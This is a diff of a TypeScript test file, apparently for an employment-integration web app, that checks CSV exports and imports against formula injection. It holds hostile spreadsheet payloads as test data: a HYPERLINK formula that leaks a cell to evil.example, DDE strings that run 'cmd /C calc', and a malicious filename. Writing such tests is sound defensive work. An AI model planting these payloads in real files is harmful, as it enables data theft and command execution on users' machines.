@@ -17,7 +17,14 @@ import { parseDelimited } from "../../src/text/delimited.js";
 import { createTestDatabase, type TestDatabase } from "../support/testDb.js";
 import { buildTestApp, type LoggedIn, login, seedWorld, type World } from "./support/fixture.js";
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"clic")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?"&A1;"clic")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+];
 const PLAIN_NUMBER = /^-?\d+([.,]\d+)?$/;
 
 /** Cells of a CSV text that a spreadsheet would run as a formula. */
@@ -79,7 +86,10 @@ describe("through the product", () => {
     await db.updateTable("person").set({ last_name: HOSTILE[3], first_name: HOSTILE[4] }).where("id", "=", world.p3).execute();
     const motif = await db.selectFrom("ref_exit_motif").select("code").limit(1).executeTakeFirstOrThrow();
     await db.updateTable("contract").set({ exit_on: "2025-06-30" }).where("id", "=", contract.id).execute();
-    await db.insertInto("exit").values({ recruitment_id: contract.id, person_id: world.p3, structure_id: world.s1, exit_on: "2025-06-30", motif_code: motif.code }).execute();
+    await db
+      .insertInto("exit")
+      .values({ recruitment_id: contract.id, person_id: world.p3, structure_id: world.s1, exit_on: "2025-06-30", motif_code: motif.code })
+      .execute();
     admin = await login(app, world.users.admin.email);
     siae = await login(app, world.users.siaeAdmin.email);
   });
@@ -91,9 +101,15 @@ describe("through the product", () => {
   test("salariés, sorties, structures, imports and the audit export", async () => {
     const boundary = "----passerelle";
     const name = "@SUM(1+1)*cmd.csv";
-    const list = "MESURE;CODE_DEPARTEMENT;LIBELLE_DPT;CODE_POSTAL;COMMUNE;SIRET;DENOMINATION_SOCIALE\nACI;062;PAS-DE-CALAIS;62300;LENS;39321207100012;=HYPERLINK(\"http://evil.example\")\n";
+    const list =
+      'MESURE;CODE_DEPARTEMENT;LIBELLE_DPT;CODE_POSTAL;COMMUNE;SIRET;DENOMINATION_SOCIALE\nACI;062;PAS-DE-CALAIS;62300;LENS;39321207100012;=HYPERLINK("http://evil.example")\n';
     const payload = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n\r\n${list}\r\n--${boundary}--\r\n`;
-    const up = await app.inject({ method: "POST", url: "/api/v1/imports", headers: { ...admin.headers, "content-type": `multipart/form-data; boundary=${boundary}` }, payload });
+    const up = await app.inject({
+      method: "POST",
+      url: "/api/v1/imports",
+      headers: { ...admin.headers, "content-type": `multipart/form-data; boundary=${boundary}` },
+      payload,
+    });
     expect(up.statusCode, up.body).toBe(200);
 
     const exports: [string, LoggedIn, string][] = [
